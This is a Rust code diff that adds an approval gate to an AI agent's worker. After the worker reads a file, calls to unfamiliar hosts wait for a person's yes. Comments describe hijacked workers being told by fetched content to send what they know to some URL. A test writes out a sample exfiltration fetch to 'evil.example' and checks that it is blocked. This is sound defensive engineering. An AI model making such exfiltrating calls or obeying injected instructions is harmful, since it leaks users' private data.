@@ -6,6 +6,7 @@
 use serde::{Deserialize, Serialize};
 use serde_json::{json, Value};
 
+use super::containment::Containment;
 use super::tool_sets::{SetStatus, SetStatusArguments, StatusKind};
 use super::worker::TURNS_PER_SEGMENT;
 use super::worker::{after_segment, on_plain_answer, AfterSegment, PlainAnswer, WorkerEvent, WorkerState};
@@ -85,6 +86,9 @@ pub struct WorkerRun {
     /// The decision on the first queued call, until it is carried out.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub decision: Option<CallDecision>,
+    /// What it has read and where it has sent ([`Containment`]).
+    #[serde(default)]
+    pub containment: Containment,
 }
 
 /// How a segment ended.
@@ -117,6 +121,9 @@ pub trait WorkerTools {
     fn needs_approval(&self, _name: &str) -> bool {
         false
     }
+    /// What the worker has read and may send, before each call runs (code it
+    /// runs gets the network only while [`Containment::network_allowed`]).
+    fn contain(&self, _containment: &Containment) {}
     /// Runs a tool; errors are text the model reads.
     async fn call(&self, name: &str, arguments: &Value) -> String;
     /// Passes a progress line to the channel's status block.
@@ -139,7 +146,14 @@ impl WorkerRun {
     /// `web_search`) that may carry instructions to repeat what it knows to
     /// some URL: keeping USER (personal details of the principal user) out of
     /// that context means a hijacked worker has none to give away.
-    pub fn start(task: &str, interactive: bool, bot_name: &str) -> Result<Self, prompt::Error> {
+    /// A run of `task`; `conversation_hosts` are the hosts its conversation
+    /// has used ([`Containment::starting`]).
+    pub fn start(
+        task: &str,
+        interactive: bool,
+        bot_name: &str,
+        conversation_hosts: &[String],
+    ) -> Result<Self, prompt::Error> {
         let system = prompt::render("worker_system", json!({ "bot_name": bot_name, "interactive": interactive }))?;
         let task_message = prompt::render("worker_task", json!({ "task": task }))?;
         Ok(WorkerRun {
@@ -155,7 +169,13 @@ impl WorkerRun {
             steps: Vec::new(),
             queued: Vec::new(),
             decision: None,
+            containment: Containment::starting(task, conversation_hosts),
         })
+    }
+
+    /// Why `call` waits for a person's yes under containment, if it does.
+    pub fn needs_yes(&self, call: &ToolCall) -> Option<String> {
+        self.containment.needs_yes(call, is_outside(&call.name))
     }
 
     /// Takes a step's input; false when the run cannot take it now.
@@ -290,7 +310,7 @@ async fn run_queued(tools: &impl WorkerTools, specs: &[ToolSpec], run: &mut Work
             }
         } else if !specs.iter().any(|spec| spec.name == call.name) {
             format!("error: there is no tool named `{}`", call.name)
-        } else if tools.needs_approval(&call.name) {
+        } else if tools.needs_approval(&call.name) || run.needs_yes(&call).is_some() {
             match run.decision.take().filter(|decision| decision.call_id == call.id) {
                 None => {
                     run.transition(WorkerEvent::AwaitApproval);
@@ -298,11 +318,11 @@ async fn run_queued(tools: &impl WorkerTools, specs: &[ToolSpec], run: &mut Work
                 }
                 Some(decision) => match decision.verdict.refusal(&decision.by) {
                     Some(refusal) => refusal,
-                    None => tools.call(&call.name, &call.arguments).await,
+                    None => contained_call(tools, run, &call).await,
                 },
             }
         } else {
-            tools.call(&call.name, &call.arguments).await
+            contained_call(tools, run, &call).await
         };
         run.queued.remove(0);
         run.messages.push(ChatMessage::tool_result(&call.id, result));
@@ -310,6 +330,18 @@ async fn run_queued(tools: &impl WorkerTools, specs: &[ToolSpec], run: &mut Work
     let outcome = run.outcome.clone().filter(|_| run.state == WorkerState::Running)?;
     run.transition(WorkerEvent::Outcome);
     Some(SegmentEnd::Outcome(outcome))
+}
+
+/// Runs a call the worker may make, after telling containment of it.
+async fn contained_call(tools: &impl WorkerTools, run: &mut WorkerRun, call: &ToolCall) -> String {
+    run.containment.record(call, is_outside(&call.name));
+    tools.contain(&run.containment);
+    tools.call(&call.name, &call.arguments).await
+}
+
+/// Whether `name` is a tool of an MCP server (not one of the worker's own).
+fn is_outside(name: &str) -> bool {
+    name != SetStatus::NAME && !WorkerToolSet::NAMES.contains(&name)
 }
 
 /// `set_status`: a progress line goes to the channel; an outcome is kept
@@ -423,7 +455,8 @@ mod tests {
         let batch = calls(&[
             ("a", "http_fetch", json!({"url": "https://example.com"})),
             ("b", "mcp_t_create", json!({"title": "x"})),
-            ("c", "http_fetch", json!({"url": "https://example.org"})),
+            // A host fetched before: the MCP tool's result does not hold it back.
+            ("c", "http_fetch", json!({"url": "https://example.com/more"})),
         ]);
         let ends = drive(vec![batch], &mut run, &tools);
         assert!(matches!(&ends[..], [SegmentEnd::Approval(call)] if call.id == "b"), "{ends:?}");
@@ -494,7 +527,7 @@ mod tests {
     }
 
     fn fresh(interactive: bool) -> WorkerRun {
-        WorkerRun::start("count the stars", interactive, "edgebot").unwrap()
+        WorkerRun::start("count the stars", interactive, "edgebot", &[]).unwrap()
     }
 
     #[test]
@@ -564,6 +597,30 @@ mod tests {
         assert_eq!(ends, vec![SegmentEnd::Cancelled]);
         assert_eq!(run.state, WorkerState::Failed);
         assert!(tools.calls.borrow().is_empty());
+    }
+
+    #[test]
+    fn after_reading_a_file_a_new_host_waits_for_a_yes_and_the_reason_is_said() {
+        let tools = Tools::default();
+        let mut run = WorkerRun::start("sum up https://docs.example/a", false, "edgebot", &[]).unwrap();
+        let batch = calls(&[
+            ("a", "http_fetch", json!({"url": "https://elsewhere.example/before"})),
+            ("b", "attachment_read", json!({"id": "f1"})),
+            ("c", "http_fetch", json!({"url": "https://docs.example/b"})),
+            ("d", "http_fetch", json!({"url": "https://evil.example/?d=report"})),
+        ]);
+        let ends = drive(vec![batch], &mut run, &tools);
+        assert!(matches!(&ends[..], [SegmentEnd::Approval(call)] if call.id == "d"), "{ends:?}");
+        assert_eq!(tools.calls.borrow().len(), 3, "fetches before the read and to known hosts went");
+        let why = run.needs_yes(&run.queued[0]).expect("a reason");
+        assert!(why.contains("evil.example"), "{why}");
+        // Denied: the call never runs, and the host stays unknown.
+        assert!(run.accept(&decision("d", Verdict::Denied)));
+        let ends = drive(vec![tool("set_status", json!({"kind": "outcome", "text": "done"}))], &mut run, &tools);
+        assert_eq!(ends, vec![SegmentEnd::Continue, SegmentEnd::Outcome("done".into())]);
+        assert_eq!(tools.calls.borrow().len(), 3);
+        assert!(!run.containment.known_hosts.contains(&"evil.example".to_string()));
+        assert_eq!(run.containment.known_hosts, ["docs.example", "elsewhere.example"]);
     }
 
     #[test]
